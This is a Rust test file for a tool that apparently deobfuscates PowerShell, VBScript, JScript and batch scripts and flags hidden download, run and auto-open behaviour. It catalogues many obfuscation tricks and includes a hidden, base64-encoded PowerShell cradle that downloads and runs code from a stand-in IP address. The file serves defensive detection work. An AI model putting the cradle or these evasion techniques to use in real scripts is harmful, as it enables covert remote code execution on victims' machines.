//! Scripts as they are hidden, and as they read.

use super::*;
use watchfire_model::{ActKind, Limits};

fn budget() -> Budget {
    Budget::new(Limits::default())
}

/// The script's plain form holds `expected`, and the layers are these.
#[track_caller]
fn check(language: Language, script: &str, expected: &str, layers: &[Layer]) -> Script {
    let read = read(script, language, &budget());
    assert!(read.plain.contains(expected), "{script}\n→ {}", read.plain);
    for layer in layers {
        assert!(
            read.facts.layers.contains(layer),
            "{layer:?} in {:?}",
            read.facts.layers
        );
    }
    read
}

#[test]
fn powershell_puts_texts_together_in_many_ways() {
    use Layer::*;
    let shell = Language::PowerShell;
    check(shell, "'ne'+'t.web'+'client'", "\"net.webclient\"", &[]);
    check(shell, "('{2}{0}{1}' -f 'wn','load','do')", "\"download\"", &[Formatted]);
    check(shell, "[char]105+[char]0x65 + [char]120", "\"iex\"", &[CharacterCodes]);
    check(shell, "-join [char[]](105,101,120)", "\"iex\"", &[CharacterCodes]);
    check(shell, "('i','e','x') -join ''", "\"iex\"", &[Joined]);
    check(shell, "-join('i','e','x')", "\"iex\"", &[Joined]);
    check(shell, "[string]::Join('',('i','e','x'))", "iex", &[]);
    check(shell, "'iXeXx'.Replace('X','')", "\"iex\"", &[Replaced]);
    check(shell, "'iXeXx' -replace 'X',''", "\"iex\"", &[Replaced]);
    check(shell, "-join 'xei'[-1..-3]", "\"iex\"", &[Reversed]);
    check(shell, "I`Nv`o`k`e-Expres`sion", "INvoke-Expression", &[Padding]);
    check(shell, "$a='i';$b='ex';& ($a+$b)", "\"iex\"", &[]);
    check(
        shell,
        "$h='example';$u=\"http://$h.org/a\"\nx $u",
        "\"http://example.org/a\"",
        &[],
    );
    check(
        shell,
        "(42,38,59|%{[char]($_ -bxor 67)}) -join ''",
        "iex",
        &[CharacterCodes],
    );
    check(
        shell,
        "$x = 'http' +\n  '://example.org/'",
        "\"http://example.org/\"",
        &[],
    );
    check(shell, "@'\nfirst 'line'\n'@ + 'x'", "first 'line'x", &[]);
}

#[test]
fn visual_basic_puts_texts_together_in_many_ways() {
    use Layer::*;
    let basic = Language::VisualBasic;
    check(
        basic,
        "x = Chr(87) & Chr(&H53) & ChrW(99)",
        "\"WSc\"",
        &[CharacterCodes],
    );
    check(
        basic,
        "x = StrReverse(\"tpircs\") & \".shell\"",
        "\"script.shell\"",
        &[Reversed],
    );
    check(basic, "x = Replace(\"p-ow-er\", \"-\", \"\")", "\"power\"", &[Replaced]);
    check(
        basic,
        "a = \"WScr\"\na = a & \"ipt\"\nb = a & \".Shell\"\n",
        "\"WScript.Shell\"",
        &[],
    );
    check(basic, "x = Chr(60 + 27) & _\n Chr(90 - 7)", "\"WS\"", &[CharacterCodes]);
    check(basic, "x = \"say \"\"hi\"\"\" ' note", "say \"hi\"", &[]);
    check(basic, "x = Mid(\"abWSxx\", 3, 2)", "\"WS\"", &[Substrings]);
}

#[test]
fn javascript_puts_texts_together_in_many_ways() {
    use Layer::*;
    let script = Language::JavaScript;
    check(
        script,
        "x='\\x57\\x53\\x63\\u0072\\x69\\x70\\x74\\x2e\\x53'",
        "WScript.S",
        &[Escapes],
    );
    check(script, "x=String.fromCharCode(87, 83,99)", "\"WSc\"", &[CharacterCodes]);
    check(script, "x=['W','S','c'].join('')", "\"WSc\"", &[Joined]);
    check(script, "x='cSW'.split('').reverse().join('')", "\"WSc\"", &[Reversed]);
    check(script, "x=unescape('%57%53%u0063')", "\"WSc\"", &[Escapes]);
    check(script, "x=atob('V1NjcmlwdA==')", "\"WScript\"", &[Base64]);
    check(
        script,
        "var a='WSc';var b=a+'ript';new ActiveXObject(b+'.Shell')",
        "\"WScript.Shell\"",
        &[],
    );
    check(script, "x='WXSXc'.replace(/X/g,'')", "\"WSc\"", &[Replaced]);
    check(script, "x = 'a' // note\n + 'b'", "\"ab\"", &[]);
}

#[test]
fn the_command_prompt_drops_carets_and_cuts_variables() {
    let batch = Language::Batch;
    check(batch, "p^o^w^e^r^s^h^e^l^l -c x", "powershell -c x", &[Layer::Padding]);
    check(
        batch,
        "set a=erpowshell\r\n%a:~2,3%%a:~0,2%%a:~5,5%",
        "powershell",
        &[Layer::Substrings],
    );
    check(
        batch,
        "@set \"x=pow\"&set y=ershell\r\n%x%%y% -c a",
        "powershell -c a",
        &[],
    );
    check(batch, "set a=pXowXer\n%a:X=%shell", "powershell", &[]);
    check(
        batch,
        "%COMSPEC% /c echo",
        "C:\\Windows\\system32\\cmd.exe /c echo",
        &[],
    );
    check(batch, "cmd /v /c \"set x=calc&&!x!\"", "&&calc", &[]);
    check(batch, "echo %PATH% 100% %1 %~dp0", "echo %PATH% 100% %1 %~dp0", &[]);
}

#[test]
fn letters_come_out_of_names_that_every_machine_has() {
    let shell = Language::PowerShell;
    for script in [
        "&($env:ComSpec[4,24,25]-join'') x",
        "& ( $PsHome[4]+$pshome[30]+'x') x",
        ".( $ShellId[1]+$ShellId[13]+'x') x",
        "&( $VerbosePreference.ToString()[1,3]+'x'-Join'') x",
        "&('xie'[1,2,0] -join '') x",
        "&([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWV4'))) x",
    ] {
        check(shell, script, "\"iex\"", &[]);
    }
    // Where nothing is taken out of them they stay as they are.
    let plain = read("Get-ChildItem $env:ComSpec", shell, &budget()).plain;
    assert!(plain.contains("$env:ComSpec"), "{plain}");
}

#[test]
fn members_by_their_names_are_members() {
    let script = Language::JavaScript;
    check(script, "WScript['Create'+'Object']('a')", "WScript.CreateObject", &[]);
    check(script, "x=String['fromCharCode'](87,83,99)", "\"WSc\"", &[]);
    check(script, "return ['a'][0]", "[\"a\"]", &[]);
    // What looks like a comment is run by JScript.
    check(
        script,
        "/*@cc_on new ActiveXObject('WScr'+'ipt.Shell') @*/",
        "\"WScript.Shell\"",
        &[],
    );
    check(
        Language::VisualBasic,
        "x = Chr(CLng(\"&H57\")) & Chr(83)",
        "\"WS\"",
        &[],
    );
}

#[test]
fn quotes_in_words_of_the_prompt_are_dropped() {
    for (line, expected) in [
        ("p\"\"owershell -c x", "powershell -c x"),
        ("p\"ow\"er\"she\"ll -c x", "powershell -c x"),
        (
            "cmd /V:ON/C\"set x=power&&set y=shell&&call %x%%y% -c a\"",
            "powershell -c a",
        ),
        ("cmd /v /c \"set x=power&&!x!shell\"", "powershell"),
        ("set a=pxOxWxErshell\n%a:X=%", "pOWErshell"),
        ("set a=junk-powershell\n%a:*-=%", "\npowershell"),
    ] {
        check(Language::Batch, line, expected, &[]);
    }
    check(Language::Batch, "echo \"a b\" \"c\"", "echo \"a b\" \"c\"", &[]);
}

fn utf16_base64(text: &str) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let mut group = [0; 3];
        group[..chunk.len()].copy_from_slice(chunk);
        let number = u32::from_be_bytes([0, group[0], group[1], group[2]]);
        for at in 0..4 {
            let letter = char::from(LETTERS[(number >> (18 - 6 * at) & 63) as usize]);
            out.push(if at <= chunk.len() { letter } else { '=' });
        }
    }
    out
}

#[test]
fn encoded_commands_are_handed_out() {
    let inner = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')";
    let encoded = utf16_base64(inner);
    for (language, line) in [
        (Language::Command, format!("powershell -nop -w hidden -e {encoded}")),
        (
            Language::Batch,
            format!("@echo off\r\npowershell.exe -EncodedCommand \"{encoded}\"\r\n"),
        ),
        (Language::PowerShell, format!("powershell -enc {encoded}")),
        (Language::Batch, format!("powershell -\"e\"n\"c\" {encoded}")),
        (
            Language::Batch,
            format!("powershell -e^nc \"{}\"", encoded.replacen('A', "A ", 1)),
        ),
    ] {
        let read = read(&line, language, &budget());
        let payload = &read.payloads[0];
        assert_eq!(
            (payload.bytes.as_slice(), payload.layer),
            (inner.as_bytes(), Layer::EncodedCommand),
            "{line}"
        );
        assert_eq!(payload.name, "command-1.ps1");
    }
}

#[test]
fn literals_that_decode_to_something_are_handed_out() {
    let text = "Write-Host 'hello from a longer script that nobody would take for a name'";
    let script = format!(
        "$x = '{}'\n$y=[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($x))",
        utf16_base64(text)
    );
    let decoded = read(&script, Language::PowerShell, &budget());
    assert_eq!(decoded.payloads.len(), 1, "{:?}", decoded.payloads);
    assert_eq!(decoded.payloads[0].bytes, text.as_bytes());
    let names = read(
        "x = 'CurrentVersionExplorerAdvancedFolderHiddenValues'",
        Language::PowerShell,
        &budget(),
    );
    assert_eq!(names.payloads, []);
}

#[test]
fn acts_are_named_by_their_words() {
    #[track_caller]
    fn acts(script: &str, language: Language, expected: &[(ActKind, bool)]) {
        let read = read(script, language, &budget());
        let found: Vec<_> = read.facts.acts.iter().map(|act| (act.kind, act.hidden)).collect();
        assert_eq!(found, expected, "{:?}", read.facts.acts);
    }
    use ActKind::*;
    acts(
        "Invoke-WebRequest x; Start-Process y",
        Language::PowerShell,
        &[(Download, false), (Run, false)],
    );
    acts(
        "& ('Inv'+'oke-WebRequest') x",
        Language::PowerShell,
        &[(Download, true)],
    );
    acts("# nothing that evaluates\n$evaluated = 1", Language::PowerShell, &[]);
    acts(
        "Set o = CreateObject(\"WScr\" & \"ipt.Shell\")",
        Language::VisualBasic,
        &[(Run, true)],
    );
    acts(
        "index = ['use curl or powershell to install']",
        Language::JavaScript,
        &[(Download, false)],
    );
    acts(
        "require('child_process').exec('powershell x')",
        Language::JavaScript,
        &[(Run, false)],
    );
    acts(
        "function retrieval() { return document.title }",
        Language::JavaScript,
        &[],
    );
}

#[test]
fn filling_hides_nothing() {
    let filling = "'x\n".repeat(3 << 20);
    let script = format!(
        "Set a = CreateObject(\"WScr\" & \"ipt.Shell\")\n{filling}Set b = CreateObject(\"adodb.\" & \"stream\")\n"
    );
    let read = read(&script, Language::VisualBasic, &budget());
    let hidden: Vec<_> = read.facts.acts.iter().map(|act| (act.kind, act.hidden)).collect();
    assert_eq!(hidden, [(ActKind::Run, true), (ActKind::Write, true)]);
}

#[test]
fn procedures_that_run_unasked_are_named() {
    let names = |text: &str| {
        let read = read(text, Language::VisualBasic, &budget());
        read.facts
            .automatic
            .iter()
            .map(|name| name.raw().to_owned())
            .collect::<Vec<_>>()
    };
    assert_eq!(
        names("Private Sub Document_Open()\nEnd Sub\nSub autoopen()\nEnd Sub\n' Sub AutoClose()\n"),
        ["Document_Open", "autoopen"]
    );
    assert!(names("Sub Total()\nCall AutoOpen\nEnd Sub").is_empty());
}

#[test]
fn hostile_scripts_end_soon() {
    let pieces = [
        "'a'+",
        "(",
        ")",
        "[char]65+",
        "$a=$a+$a;",
        "`",
        "\"$",
        "a.b(",
        "'a',",
        "%a:~0,1%",
        "^",
        "<#",
        "/*",
        "{",
        "\\x41",
        "atob(",
        "&H",
        "'a'.replace('a','b')",
        "('a','b')",
        "1,2,",
        "[",
        "-join ",
        "'a' -join 'b' ",
        "'a' -f 'b',",
        "@'",
        "/a",
        "set a=b&",
        "!a!",
        "<script",
        "#@~^",
        "-e ",
        "x='a'\n",
        "a=a&\"b\"\n",
        "$a='b';\"$a$a\";",
        "'a'[1]",
        "\\",
        "('a'+'b').split('').reverse().join('')",
        "(1,2|%{[char]$_})",
        "%{",
        "A",
    ];
    for piece in pieces {
        let script = piece.repeat(100_000 / piece.len());
        for language in [
            Language::PowerShell,
            Language::VisualBasic,
            Language::JavaScript,
            Language::Batch,
            Language::Command,
        ] {
            let read = read(&script, language, &budget());
            let _ = parts(&script);
            assert!(read.plain.len() <= script.len() * 12 + (1 << 20), "{piece}");
        }
    }
    let doubling = format!("$a='{}'\n{}", "x".repeat(1000), "$a=$a+$a\n".repeat(60));
    assert!(read(&doubling, Language::PowerShell, &budget()).plain.len() < 1 << 20);
}
